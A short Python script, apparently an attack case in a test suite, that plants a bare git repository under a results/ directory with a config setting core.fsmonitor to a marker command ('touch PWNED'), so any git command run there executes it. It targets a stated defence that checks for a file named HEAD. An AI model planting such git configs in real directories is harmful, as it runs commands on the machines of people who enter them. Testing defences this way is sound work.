"""Leave a bare repository under harmless names: git obeys its settings for whoever enters the directory.

Held by the reader: no file is called HEAD, without which git sees no repository.
"""

import os


def attack():
    for path in ("results/objects/a", "results/refs/a", "results/HEAD", "results/config"):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(
                "ref: refs/heads/main\n" if path.endswith("HEAD") else "[core]\n\tfsmonitor = touch PWNED\n"
            )
